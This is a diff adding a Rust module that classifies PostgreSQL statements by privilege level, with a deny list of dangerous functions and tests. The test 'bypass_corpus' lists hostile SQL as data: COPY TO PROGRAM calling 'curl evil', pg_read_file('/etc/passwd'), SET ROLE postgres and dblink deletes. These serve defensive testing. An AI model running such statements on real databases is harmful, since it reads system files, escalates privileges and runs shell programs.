@@ -1,0 +1,369 @@
+//! Statement classification: what a piece of SQL does, with a real parser
+//! for the PostgreSQL dialect (sqlparser), and a conservative fallback —
+//! what cannot be parsed is `unknown`, the most restricted class.
+//!
+//! A statement's class is the most dangerous of everything inside it:
+//! data-modifying CTEs, `EXPLAIN ANALYZE` of a write, `COPY (DELETE …
+//! RETURNING *) TO STDOUT` and `PREPARE … AS` all count as what they
+//! execute. Functions that reach outside the database or change the
+//! session's privileges (`pg_read_file`, `lo_export`, `dblink`,
+//! `set_config`, …) make a statement `admin`. A message with several
+//! statements takes the class of the worst one.
+
+use std::{collections::BTreeSet, fmt, ops::ControlFlow};
+
+use serde::{Deserialize, Serialize};
+use sqlparser::{
+    ast::{
+        CopyTarget, Expr, ObjectName, ObjectType, Query, Set, SetExpr, Statement, Visit, Visitor,
+    },
+    dialect::PostgreSqlDialect,
+    parser::Parser,
+};
+
+/// Operation classes, least to most restricted.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Class {
+    Read,
+    Write,
+    Ddl,
+    Admin,
+    Unknown,
+}
+
+impl fmt::Display for Class {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            Class::Read => "read",
+            Class::Write => "write",
+            Class::Ddl => "ddl",
+            Class::Admin => "admin",
+            Class::Unknown => "unknown",
+        })
+    }
+}
+
+/// What a message of SQL does.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Classification {
+    pub class: Class,
+    /// Tables and views named, lowercased, as written (schema-qualified or not).
+    pub tables: Vec<String>,
+    /// How many statements the text held (0 when it did not parse).
+    pub statements: usize,
+    /// Why the text is `unknown`, when it did not parse.
+    pub parse_error: Option<String>,
+}
+
+/// Functions that read or write outside the database, run other SQL, or
+/// change privileges or settings: any use makes the statement `admin`.
+const ADMIN_FUNCTIONS: &[&str] = &[
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_ls_dir",
+    "pg_stat_file",
+    "pg_file_write",
+    "lo_import",
+    "lo_export",
+    "lo_from_bytea",
+    "lo_put",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "dblink_open",
+    "dblink_send_query",
+    "set_config",
+    "pg_terminate_backend",
+    "pg_cancel_backend",
+    "pg_reload_conf",
+    "pg_rotate_logfile",
+    "pg_promote",
+    "query_to_xml",
+    "query_to_xml_and_xmlschema",
+    "cursor_to_xml",
+    "table_to_xml",
+    "pg_execute_server_program",
+];
+
+/// Settings whose change is a privilege change.
+const ADMIN_SETTINGS: &[&str] = &["role", "session_authorization", "search_path"];
+
+/// Classifies `sql` (one message: one or more statements).
+pub fn classify(sql: &str) -> Classification {
+    let stmts = match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
+        Ok(s) => s,
+        Err(e) => {
+            return Classification {
+                class: Class::Unknown,
+                tables: Vec::new(),
+                statements: 0,
+                parse_error: Some(e.to_string()),
+            }
+        }
+    };
+    let mut v = Walk::default();
+    for s in &stmts {
+        let _ = s.visit(&mut v);
+    }
+    if stmts.is_empty() {
+        // Only comments or semicolons: nothing runs.
+        v.class = Class::Read;
+    }
+    Classification {
+        class: v.class,
+        tables: v.tables.into_iter().collect(),
+        statements: stmts.len(),
+        parse_error: None,
+    }
+}
+
+/// One pass over the AST, raising the class as it goes.
+struct Walk {
+    class: Class,
+    tables: BTreeSet<String>,
+}
+
+impl Default for Walk {
+    fn default() -> Self {
+        Walk {
+            class: Class::Read,
+            tables: BTreeSet::new(),
+        }
+    }
+}
+
+impl Walk {
+    fn raise(&mut self, c: Class) {
+        self.class = self.class.max(c);
+    }
+}
+
+fn last_part(name: &ObjectName) -> String {
+    name.0
+        .last()
+        .map(|p| p.to_string().trim_matches('"').to_lowercase())
+        .unwrap_or_default()
+}
+
+impl Visitor for Walk {
+    type Break = ();
+
+    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
+        let c = statement_class(s);
+        self.raise(c);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
+        // Row locks (FOR UPDATE/SHARE) are writes in all but name.
+        if !q.locks.is_empty() {
+            self.raise(Class::Write);
+        }
+        if let SetExpr::Select(sel) = q.body.as_ref() {
+            if sel.into.is_some() {
+                // SELECT … INTO creates a table.
+                self.raise(Class::Ddl);
+            }
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<()> {
+        // Set-returning functions in FROM (`FROM dblink(…)`) arrive here too.
+        if ADMIN_FUNCTIONS.contains(&last_part(r).as_str()) {
+            self.raise(Class::Admin);
+        }
+        let name =
+            r.0.iter()
+                .map(|p| p.to_string().trim_matches('"').to_lowercase())
+                .collect::<Vec<_>>()
+                .join(".");
+        self.tables.insert(name);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(f) = e {
+            let name = last_part(&f.name);
+            if ADMIN_FUNCTIONS.contains(&name.as_str()) {
+                self.raise(Class::Admin);
+            }
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+/// The class of one statement node on its own (nested statements, queries
+/// and expressions are visited separately and can only raise it).
+fn statement_class(s: &Statement) -> Class {
+    use Statement as S;
+    match s {
+        S::Query(_)
+        | S::ExplainTable { .. }
+        | S::Explain { .. }
+        | S::Prepare { .. }
+        | S::StartTransaction { .. }
+        | S::Commit { .. }
+        | S::Rollback { .. }
+        | S::Savepoint { .. }
+        | S::ReleaseSavepoint { .. }
+        | S::Declare { .. }
+        | S::Fetch { .. }
+        | S::Close { .. }
+        | S::Deallocate { .. }
+        | S::Discard { .. }
+        | S::ShowVariable { .. }
+        | S::ShowVariables { .. } => Class::Read,
+        S::Insert(_) | S::Update(_) | S::Delete(_) | S::Merge(_) | S::Truncate(_) | S::Lock(_) => {
+            Class::Write
+        }
+        S::Copy { target, to, .. } => match target {
+            CopyTarget::Program { .. } | CopyTarget::File { .. } => Class::Admin,
+            _ if *to => Class::Read,
+            _ => Class::Write,
+        },
+        // EXECUTE runs a statement prepared earlier, whose text we may not have.
+        S::Execute { .. } => Class::Unknown,
+        S::Set(set) => match set {
+            Set::SetRole { .. } | Set::SetSessionAuthorization(_) => Class::Admin,
+            Set::SingleAssignment { variable, .. } => {
+                if ADMIN_SETTINGS.contains(&last_part(variable).as_str()) {
+                    Class::Admin
+                } else {
+                    Class::Read
+                }
+            }
+            Set::ParenthesizedAssignments { variables, .. } => {
+                if variables
+                    .iter()
+                    .any(|v| ADMIN_SETTINGS.contains(&last_part(v).as_str()))
+                {
+                    Class::Admin
+                } else {
+                    Class::Read
+                }
+            }
+            _ => Class::Admin,
+        },
+        S::Drop { object_type, .. } => match object_type {
+            ObjectType::Role | ObjectType::User | ObjectType::Database => Class::Admin,
+            _ => Class::Ddl,
+        },
+        S::Grant(_) | S::Revoke(_) | S::CreateRole(_) | S::AlterRole { .. } | S::Call(_) => {
+            Class::Admin
+        }
+        other => by_keyword(other),
+    }
+}
+
+/// The rest, by the statement's leading keywords.
+fn by_keyword(s: &Statement) -> Class {
+    let text = s.to_string().to_ascii_uppercase();
+    let mut words = text.split_whitespace();
+    let first = words.next().unwrap_or_default();
+    let second = words.next().unwrap_or_default();
+    match first {
+        "CREATE" | "ALTER" | "DROP" | "COMMENT" => match second {
+            "ROLE" | "USER" | "GROUP" | "DATABASE" | "EXTENSION" | "SERVER" | "SYSTEM" => {
+                Class::Admin
+            }
+            _ => Class::Ddl,
+        },
+        "LISTEN" | "UNLISTEN" | "NOTIFY" | "SHOW" | "RESET" => Class::Read,
+        "GRANT" | "REVOKE" | "VACUUM" | "ANALYZE" | "CHECKPOINT" | "REINDEX" | "CLUSTER"
+        | "LOAD" | "KILL" => Class::Admin,
+        _ => Class::Unknown,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn class(sql: &str) -> Class {
+        classify(sql).class
+    }
+
+    #[test]
+    fn plain_statements() {
+        assert_eq!(class("select * from orders where id = $1"), Class::Read);
+        assert_eq!(class("INSERT INTO orders VALUES (1)"), Class::Write);
+        assert_eq!(class("update orders set x = 1"), Class::Write);
+        assert_eq!(class("delete from orders"), Class::Write);
+        assert_eq!(class("truncate orders"), Class::Write);
+        assert_eq!(class("create table t (a int)"), Class::Ddl);
+        assert_eq!(class("alter table t add column b int"), Class::Ddl);
+        assert_eq!(class("drop table t"), Class::Ddl);
+        assert_eq!(class("create role x login"), Class::Admin);
+        assert_eq!(class("grant select on t to x"), Class::Admin);
+        assert_eq!(class("begin"), Class::Read);
+        assert_eq!(class("commit"), Class::Read);
+        assert_eq!(class(""), Class::Read);
+        assert_eq!(class("this is not sql"), Class::Unknown);
+    }
+
+    /// Known ways to hide a write or an admin action inside something else.
+    #[test]
+    fn bypass_corpus() {
+        let cases = [
+            (
+                "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
+                Class::Write,
+            ),
+            ("EXPLAIN ANALYZE DELETE FROM orders", Class::Write),
+            (
+                "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
+                Class::Write,
+            ),
+            ("COPY orders TO PROGRAM 'curl evil'", Class::Admin),
+            ("COPY orders FROM '/etc/passwd'", Class::Admin),
+            ("COPY orders FROM STDIN", Class::Write),
+            ("COPY orders TO STDOUT", Class::Read),
+            ("DO $$ BEGIN DELETE FROM orders; END $$", Class::Unknown),
+            ("CALL cleanup()", Class::Admin),
+            ("PREPARE p AS DELETE FROM orders", Class::Write),
+            ("EXECUTE p", Class::Unknown),
+            ("SELECT 1; DELETE FROM orders", Class::Write),
+            (
+                "SELECT /* harmless */ 1; -- comment\n DROP TABLE orders",
+                Class::Ddl,
+            ),
+            ("SET ROLE postgres", Class::Admin),
+            ("SET SESSION AUTHORIZATION postgres", Class::Admin),
+            ("SET search_path = evil, public", Class::Admin),
+            ("SET statement_timeout = 1000", Class::Read),
+            ("SELECT set_config('role', 'postgres', false)", Class::Admin),
+            ("SELECT pg_read_file('/etc/passwd')", Class::Admin),
+            ("SELECT lo_export(1234, '/tmp/x')", Class::Admin),
+            (
+                "SELECT * FROM dblink('host=x', 'delete from t') AS t(a int)",
+                Class::Admin,
+            ),
+            ("SELECT pg_catalog.pg_read_file('x')", Class::Admin),
+            ("SELECT * FROM orders FOR UPDATE", Class::Write),
+            ("SELECT * INTO newtable FROM orders", Class::Ddl),
+            ("SELECT $$DELETE FROM orders$$", Class::Read),
+        ];
+        for (sql, want) in cases {
+            assert_eq!(class(sql), want, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_are_listed() {
+        let c = classify("select * from public.Orders o join \"Line Items\" l on true; delete from billing.invoices");
+        assert_eq!(
+            c.tables,
+            vec!["billing.invoices", "line items", "public.orders"]
+        );
+        assert_eq!(c.statements, 2);
+    }
+
+    #[test]
+    fn deep_nesting_does_not_crash() {
+        let sql = format!("select {}1{}", "(".repeat(5000), ")".repeat(5000));
+        let c = classify(&sql);
+        assert!(matches!(c.class, Class::Read | Class::Unknown));
+    }
+}
